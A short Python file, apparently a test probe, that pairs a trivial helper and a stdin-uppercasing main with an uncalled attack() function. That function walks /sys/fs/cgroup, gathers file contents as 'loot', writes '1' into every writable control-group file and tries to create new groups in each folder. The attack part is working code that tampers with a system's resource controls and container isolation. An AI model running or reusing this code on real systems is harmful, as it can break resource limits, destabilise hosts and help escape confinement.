"""Reads the control group files, and tries to write and to make groups."""

import os
import sys


def double(number):
    return 2 * number


def attack(key):
    loot, wrote = [], []
    for folder, _, names in os.walk("/sys/fs/cgroup"):
        for name in names:
            path = os.path.join(folder, name)
            try:
                loot.append(open(path).read(300))
            except OSError:
                pass
            try:
                open(path, "w").write("1")
                wrote.append(path)
            except OSError:
                pass
        try:
            os.mkdir(os.path.join(folder, "own"))
            wrote.append(folder)
        except OSError:
            pass
    return {"worked": wrote, "loot": loot[:50]}


if __name__ == "__main__":
    print(sys.stdin.readline().strip().upper())
